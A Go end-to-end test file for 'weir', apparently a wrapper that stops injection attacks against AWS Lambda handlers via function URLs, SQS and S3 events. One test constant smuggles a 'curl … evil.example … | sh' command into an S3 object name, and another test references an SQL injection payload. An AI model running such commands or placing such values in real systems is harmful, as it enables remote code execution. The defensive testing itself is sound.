package e2e

import (
	"encoding/json"
	"strings"
	"testing"

	"weir/test/lambdatest"
)

func TestWithoutWeirTheAttackReachesTheHandler(t *testing.T) {
	f := attach(t, "echo", map[string]string{"AWS_LAMBDA_EXEC_WRAPPER": ""})
	attack := functionURL("id=" + injectionQS)
	f.call(attack)
	f.sawOnly(attack)
}

func TestAnInjectionIntoAFunctionURLIsRefusedAndTheHandlerNeverSeesIt(t *testing.T) {
	f := attach(t, "echo", nil)
	f.refused(functionURL("id=" + injectionQS))
	f.call(functionURL("id=1"))
	f.sawOnly(functionURL("id=1"))
	f.expectSteps(f.polls(), "weir next 200", "weir response 202", "weir next 200", "weir response 202", "weir next")
	polled := false
	var ours lambdatest.Entry
	for _, e := range f.Journal() {
		switch {
		case step(e) == "weir response 202" && ours.Began == 0:
			ours = e
		case strings.HasPrefix(step(e), "weir next") && ours.Began != 0 && !polled:
			polled = true
			if e.Began < ours.Ended {
				t.Error("Weir asked for the next event before its answer was accepted")
			}
		}
	}
	if ours.Header.Get("Lambda-Runtime-Invocation-Id") == "" {
		t.Error("Weir's answer does not echo the invocation id")
	}
	line := f.line("finding")
	if line == nil || line["action"] != "block" || line["source"] != "function-url" {
		t.Errorf("log line %v", line)
	}
	if strings.Contains(f.weirText(), "password FROM users") {
		t.Error("the attack is in the log")
	}
}

func (f function) weirText() string {
	var b strings.Builder
	for _, line := range f.lines() {
		if line.Process == "weir" {
			b.WriteString(line.Text + "\n")
		}
	}
	return b.String()
}

func TestOneBadRecordOfFiveIsTakenOutOfTheBatch(t *testing.T) {
	f := attach(t, "echo", nil)
	r := sqsRecords("one", `{"n": 2}`, `{"user": "`+injection+`"}`, "four", "five")
	rest := batch(r[0], r[1], r[3], r[4])
	if got := f.call(batch(r...)); string(got) != rest {
		t.Errorf("the caller got %s", got)
	}
	f.sawOnly(rest)
	line := f.line("finding")
	if line == nil || line["action"] != "filter" || line["source"] != "sqs" {
		t.Errorf("log line %v", line)
	}
}

func TestABatchWithNothingGoodIsAnsweredByWeir(t *testing.T) {
	f := attach(t, "echo", nil)
	got := f.call(batch(sqsRecords(injection, injection)...))
	var answer struct {
		BatchItemFailures []any `json:"batchItemFailures"`
	}
	if err := json.Unmarshal(got, &answer); err != nil || answer.BatchItemFailures == nil || len(answer.BatchItemFailures) != 0 {
		t.Errorf("answer %s", got)
	}
	f.sawOnly()
	f.expectSteps(f.polls(), "weir next 200", "weir response 202", "weir next")
}

const attackedKey = "uploads/%24%28curl+http%3A%2F%2Fevil.example%2Fx%7Csh%29.png"

func TestAnAttackInAnObjectsKeyFailsTheInvocation(t *testing.T) {
	f := attach(t, "echo", map[string]string{"WEIR_ASYNC": "error"})
	r := f.Invoke([]byte(s3(attackedKey)), lambdatest.InvokeOptions{})
	if r.ErrorType != "Function.Blocked" || !strings.Contains(string(r.Payload), `"errorType":"Function.Blocked"`) {
		t.Errorf("caller got %s %s", r.ErrorType, r.Payload)
	}
	f.call(s3("uploads/holiday+2026.png"))
	f.sawOnly(s3("uploads/holiday+2026.png"))
	f.expectSteps(f.polls(), "weir next 200", "weir error 202", "weir next 200", "weir response 202", "weir next")
}

func TestAnAttackInAnObjectsKeyIsSwallowedIfTheUserWantsIt(t *testing.T) {
	f := attach(t, "echo", map[string]string{"WEIR_ASYNC": "swallow"})
	f.call(s3(attackedKey))
	f.sawOnly()
	f.expectSteps(f.polls(), "weir next 200", "weir response 202", "weir next")
}

func TestMonitorOnlyLooks(t *testing.T) {
	f := attach(t, "echo", map[string]string{"WEIR_MODE": "monitor"})
	attack := functionURL("id=" + injectionQS)
	f.call(attack)
	f.sawOnly(attack)
	if line := f.line("finding"); line == nil || line["action"] != "pass" {
		t.Errorf("log line %v", line)
	}
}
